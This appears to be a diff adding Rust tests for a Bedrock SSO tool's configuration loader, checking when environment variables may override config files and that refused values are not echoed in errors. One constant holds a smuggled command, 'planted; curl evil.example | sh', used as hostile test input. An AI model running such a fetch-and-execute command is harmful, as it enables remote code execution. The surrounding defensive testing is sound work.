@@ -1,0 +1,194 @@
+//! What environment variables may set beside a file, and without one.
+
+use super::{GOOD, Home, TRUSTING};
+use crate::{
+    config::{
+        Error, Fault, Place, Problem,
+        key::{Default, KEYS, Key, Kind, Variable},
+        value::written,
+    },
+    failure::{Exit, Failure},
+};
+
+/// What a repository would plant: it must not come back in a message.
+const PLANTED: &str = "planted; curl evil.example | sh";
+
+/// A legal value for a variable, other than the default.
+fn legal(key: &Key) -> String {
+    match (key.name, key.kind, key.default) {
+        ("region", ..) => "us-west-2".to_owned(),
+        ("session_duration", ..) => "1h".to_owned(),
+        (_, Kind::Span(..), _) => "10m".to_owned(),
+        (_, Kind::Word(words), Default::Text(default)) => {
+            words.iter().find(|word| **word != default).unwrap_or(&default).to_string()
+        }
+        (_, _, _) => key.default_value().map(|value| written(&value)).unwrap_or_default(),
+    }
+}
+
+fn problems(home: &Home) -> Vec<Problem> {
+    match home.load() {
+        Err(Error::Invalid(problems)) => problems,
+        other => panic!("{other:?}"),
+    }
+}
+
+/// The containers' way: everything from variables.
+fn by_variables() -> Home {
+    Home::new()
+        .variable("BEDROCK_SSO_ISSUER", "https://acme.okta.com")
+        .variable("BEDROCK_SSO_CLIENT_ID", "0oa1b2c3d4")
+        .variable("BEDROCK_SSO_ROLE_ARN", "arn:aws:iam::123456789012:role/BedrockUser")
+        .variable("BEDROCK_SSO_REGION", "us-east-1")
+}
+
+#[test]
+fn variable_that_redirects_is_refused_beside_each_file() {
+    for key in KEYS.iter().filter(|key| key.variable == Variable::WithoutFile) {
+        let variable = key.variable_name();
+        for home in [
+            Home::new().user(GOOD),
+            Home::new().system(GOOD),
+            // It defines no profile, and exists.
+            Home::new().user("version = 1\n"),
+            Home::new().with("mine.toml", GOOD).file("mine.toml"),
+            // A file in the default place is enough, though another one is read.
+            Home::new().user("version = 1\n").with("mine.toml", "version = 1\n").file("mine.toml"),
+        ] {
+            let problems = problems(&home.variable(&variable, PLANTED));
+            let [Problem { place, fault: Fault::VariableRefused { variable: named, key: needed, file } }] =
+                problems.as_slice()
+            else {
+                panic!("{}: {problems:?}", key.name)
+            };
+            assert_eq!((place, named, *needed), (&Place::Variable(variable.clone()), &variable, key.name));
+            let failure = Failure::from(Error::Invalid(problems.clone()));
+            assert_eq!(
+                (failure.exit, failure.slug.as_str()),
+                (Exit::Configuration, "config/variable_refused")
+            );
+            assert!(failure.what.starts_with(&variable) && failure.what.contains(file), "{}", failure.what);
+            assert!(failure.hint.contains(key.name) && failure.hint.contains(&variable), "{}", failure.hint);
+            assert!(!failure.to_string().contains("planted"), "{failure}");
+        }
+    }
+}
+
+#[test]
+fn variable_with_the_files_own_value_is_refused_too() {
+    let home = Home::new().user(GOOD).variable("BEDROCK_SSO_CLIENT_ID", "0oa1b2c3d4");
+    assert_eq!(
+        home.line(),
+        "BEDROCK_SSO_CLIENT_ID: environment variables cannot set \"client_id\", because ~/user.toml exists"
+    );
+}
+
+#[test]
+fn variable_that_chooses_counts_beside_a_file() {
+    for key in KEYS.iter().filter(|key| key.variable == Variable::Always) {
+        let value = legal(key);
+        let home = Home::new().user(GOOD).variable(&key.variable_name(), &value);
+        let shown = home.ask(crate::config::show).unwrap_or_else(|error| panic!("{}: {error}", key.name));
+        let entry = shown.entries.into_iter().find(|entry| entry.key == key.name).unwrap();
+        assert_eq!(entry.origin, key.variable_name(), "{} = {value}", key.name);
+    }
+}
+
+#[test]
+fn variable_for_a_files_key_is_refused_without_a_file() {
+    for key in KEYS.iter().filter(|key| key.variable == Variable::Never) {
+        let problems = problems(&by_variables().variable(&key.variable_name(), PLANTED));
+        let is_refused = |fault: &Fault| matches!(fault, Fault::ByUser { .. } | Fault::ByVariable { .. });
+        assert!(problems.iter().all(|problem| is_refused(&problem.fault)), "{}: {problems:?}", key.name);
+    }
+}
+
+#[test]
+fn variables_alone_make_a_profile_with_every_key() {
+    let profile = by_variables()
+        .variable("BEDROCK_SSO_QUOTA_ENDPOINT", "https://quota.example")
+        .variable("BEDROCK_SSO_STORAGE", "file")
+        .load()
+        .unwrap();
+    assert_eq!(profile.quota.unwrap().endpoint.as_str(), "https://quota.example/check");
+}
+
+#[test]
+fn named_file_without_a_profile_leaves_it_to_variables() {
+    let home = by_variables().with("mine.toml", "version = 1\n");
+    let path = home.at("mine.toml").to_str().unwrap().to_owned();
+    assert_eq!(home.variable("BEDROCK_SSO_CONFIG", &path).load().unwrap().name, "default");
+}
+
+#[test]
+fn config_variable_is_refused_beside_a_file_in_a_default_place() {
+    for home in [Home::new().user(GOOD), Home::new().system(GOOD)] {
+        let home = home.with("mine.toml", GOOD);
+        let path = home.at("mine.toml").to_str().unwrap().to_owned();
+        let home = home.variable("BEDROCK_SSO_CONFIG", &path);
+        let line = home.line();
+        assert!(
+            line.starts_with("BEDROCK_SSO_CONFIG: environment variables cannot name another file"),
+            "{line}"
+        );
+        assert!(!line.contains("mine.toml"), "{line}");
+        // The flag is obeyed.
+        assert!(home.file("mine.toml").load().is_ok());
+    }
+}
+
+#[test]
+fn config_variable_counts_without_a_file_and_its_profile_is_not_changed() {
+    let home = Home::new().with("mine.toml", GOOD).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
+    assert_eq!(home.load().unwrap().client_id, "0oa1b2c3d4");
+    let home = home.variable("BEDROCK_SSO_CLIENT_ID", PLANTED);
+    assert!(matches!(problems(&home)[0].fault, Fault::VariableRefused { .. }));
+}
+
+#[test]
+fn config_variable_with_a_relative_path_is_refused() {
+    let line = Home::new().variable("BEDROCK_SSO_CONFIG", "mine.toml").line();
+    assert_eq!(line, "BEDROCK_SSO_CONFIG: must hold an absolute path, or one that begins with ~/");
+}
+
+#[test]
+fn trusting_file_in_a_default_place_lets_variables_set_everything() {
+    for home in [Home::new().user(TRUSTING), Home::new().system(TRUSTING)] {
+        let home = home.with("mine.toml", GOOD.replace("claude", "mine"));
+        let path = home.at("mine.toml").to_str().unwrap().to_owned();
+        let home = home.variable("BEDROCK_SSO_CLIENT_ID", "other");
+        assert_eq!(home.load().unwrap().client_id, "other");
+        let home = home.variable("BEDROCK_SSO_CONFIG", &path).profile("mine");
+        let profile = home.load().unwrap();
+        assert_eq!((profile.name.as_str(), profile.client_id.as_str()), ("mine", "other"));
+    }
+}
+
+#[test]
+fn users_trust_does_not_lift_what_the_administrator_enforces() {
+    let system = GOOD.replace("version = 1", "version = 1\nenforce = [\"client_id\"]");
+    let home = Home::new().system(system).user("version = 1\ntrust_environment = true\n");
+    let line = home.variable("BEDROCK_SSO_CLIENT_ID", "other").line();
+    assert!(line.starts_with("BEDROCK_SSO_CLIENT_ID: \"client_id\" is fixed by the administrator"), "{line}");
+}
+
+#[test]
+fn trust_in_a_named_file_is_refused() {
+    let home = Home::new().with("mine.toml", TRUSTING).file("mine.toml");
+    assert_eq!(home.line(), "~/mine.toml:1: \"trust_environment\" works only in a file in its default place");
+    let home = Home::new().with("mine.toml", TRUSTING).variable("BEDROCK_SSO_CONFIG", "~/mine.toml");
+    assert!(matches!(problems(&home)[0].fault, Fault::ByNamedFile { key: "trust_environment" }));
+    // Naming the default place is no other file.
+    let home = Home::new().user(TRUSTING).file("user.toml").variable("BEDROCK_SSO_CLIENT_ID", "other");
+    assert_eq!(home.load().unwrap().client_id, "other");
+}
+
+#[test]
+fn several_refused_variables_are_all_named() {
+    let home = Home::new()
+        .user(GOOD)
+        .variable("BEDROCK_SSO_STS_ENDPOINT", PLANTED)
+        .variable("BEDROCK_SSO_BROWSER", PLANTED);
+    let lines = home.lines();
+    assert_eq!(lines.len(), 2, "{lines:?}");
+}
